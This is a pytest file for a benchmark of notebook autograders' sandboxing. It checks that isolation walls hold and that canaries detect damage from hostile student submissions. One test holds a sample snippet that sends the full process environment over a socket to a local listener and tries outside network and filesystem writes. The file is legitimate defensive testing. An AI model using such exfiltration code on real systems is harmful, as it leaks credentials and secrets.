"""The benchmark's parts, on one small case: neither stock nbgrader nor otter-grader is run."""

from __future__ import annotations

import json
import re
import sys

import nbformat

from loralab import paths
from tests.attacks import hostile
from tests.bench import attacks, canaries, otter, report, speed, walls
from tests.bench.__main__ import RECORDED
from tests.bench.class_folders import Ours
from tests.bench.handed_in import chapter, full, untouched


def test_this_engine_is_timed_and_its_scores_are_read(tmp_path):
    subject = chapter("00")
    folder = Ours(tmp_path / "class", [subject])
    folder.put("student000", subject, full(subject))
    folder.put("student001", subject, untouched(subject))
    whole = folder.grade(subject)
    assert 0 < folder.seconds_once_warm() < whole
    totals = {name: sum(cells.values()) for name, cells in folder.scores(subject).items()}
    assert totals == {"student000": subject.points, "student001": 0}
    folder.empty()
    assert not (folder.root / "submitted").exists()


def test_walls_hold_and_canaries_sing(tmp_path):
    code = f"""
import os, socket
open("/tmp/{canaries.LEFT}", "w").close()
caller = socket.create_connection(("127.0.0.1", {canaries.PORT}), 5)
caller.sendall(repr(dict(os.environ)).encode())
caller.close()
try:
    socket.create_connection(("192.0.2.1", 80), 5)
except OSError as error:
    print("network:", type(error).__name__)
try:
    open("/usr/mine", "w")
except OSError:
    print("read-only")
print("root" if os.getuid() == 0 else "nobody")
"""
    heard = tmp_path / "heard"
    line = canaries.listening(heard, [[sys.executable, "-c", code]], tmp_path)
    ended = walls.run(line, tmp_path, canaries.SECRET, 30)
    assert (ended.status, ended.said.split("\n")[:3]) == (
        0, ["network: OSError", "read-only", "nobody"]), ended
    before = canaries.Before({"ada/a": "1"}, {"ada": 20.0})
    found = canaries.damage(before, {}, {"ada": 200.0}, {"zoe": 3.0}, heard,
                            [tmp_path / "tmp"], ended=False)
    assert found == [
        "another student's score changed from 20 to 200", "another student's files were changed",
        "a file was left outside", "the grader's secrets were read and sent away",
        "the run never ended", "the next submission was not graded"]
    assert canaries.damage(before, {"ada/a": "1"}, {"ada": 20.0, "zoe": 3.0}, {"zoe": 3.0},
                           tmp_path / "none", [tmp_path / "home"], ended=True) == []
    hung = walls.run(["sleep", "60"], tmp_path, {}, 1)
    assert hung.status is None and hung.seconds < 30


def test_attacks_become_submissions_and_otters_tests():
    subject = chapter("01")
    for attack in hostile.ATTACKS:
        notebook = attacks.work_of(subject, attack).notebook
        nbformat.validate(notebook)
        assert attack.code.strip()[:20] in "\n".join(cell.source for cell in notebook.cells)
    sent = next(one for one in hostile.ATTACKS if "sent away" in one.name)
    assert str(canaries.PORT) in canaries.aimed(sent.code)
    made = otter.tests(subject)
    assert len(made) == sum(cell.source.startswith("check.") for cell in subject.source.cells)
    for text in made.values():
        compile(text, "test", "exec")


def test_tables(tmp_path):
    turns = [speed.Turn("01", "full credit", 8, 2, stock, 1.0, warm, right)
             for stock, warm, right in ((6.0, 0.3, True), (8.0, 0.2, True), (7.0, 0.25, True))]
    line, = speed.lines(turns)
    assert (line.stock.median, line.ratio.median, line.right) == (7.0, 28.0, True)
    text = report.markdown("Speed", [], report.SPEED_HEAD,
                           report.speed_rows([line], spreads=True),
                           report.speed_notes(turns, {}))
    assert "| 01 | full credit | 7.00 (6.00–8.00) | 0.250 (0.200–0.300) | 28.0 (20.0–40.0) ×" in text
    outcomes = [attacks.Outcome(hostile.ATTACKS[0].name, "ours", 3.0, [], 0.0),
                attacks.Outcome(hostile.ATTACKS[0].name, "nbgrader", 20.0, ["a | b"], 1.0)]
    attacks.write(tmp_path / "a.json", outcomes, {"otter": "no network"})
    assert attacks.read(tmp_path / "a.json") == (outcomes, {"otter": "no network"})
    head, rows = report.attack_rows(outcomes, {"otter": "no network"})
    assert head == ["attack", "LoRA Lab", "stock nbgrader", "otter-grader"]
    assert rows == [[hostile.ATTACKS[0].name, "3", "**20**; a | b", "not tried"]]
    assert "a \\| b" in report.markdown("Attacks", report.attack_summary(outcomes), head, rows, [])
    json.loads((tmp_path / "a.json").read_text())


def test_the_readme_says_what_was_recorded():
    recorded = (RECORDED / "attacks.md").read_text("utf-8")
    readme = (paths.PROJECT / "README.md").read_text("utf-8")
    for engine, row in (("LoRA Lab", "this grader"), ("stock nbgrader", "stock nbgrader 0.9.6"),
                        ("otter-grader", "otter-grader 7.0.0, without a container")):
        total, paid, harmful = re.search(
            rf"{engine}: of (\d+) attacks (\d+) paid, (\d+) did damage", recorded).groups()
        assert f"| {row} | {paid} | {harmful} |" in readme
        assert f"{total} hostile notebooks" in readme
    speed = (RECORDED / "speed.md").read_text("utf-8")
    lines = [line.split("|") for line in speed.splitlines() if re.match(r"\| \d\d \|", line)]
    assert {(line[1].strip(), line[2].strip()) for line in lines} == {
        (number, work) for number in ("01", "05") for work in ("full credit", "untouched")}
    assert all(line[8].strip() == "yes" for line in lines)
    slowest = min(float(line[5].split()[0]) for line in lines)
    assert slowest > 20 and f"at least {int(slowest)} times as fast" in readme
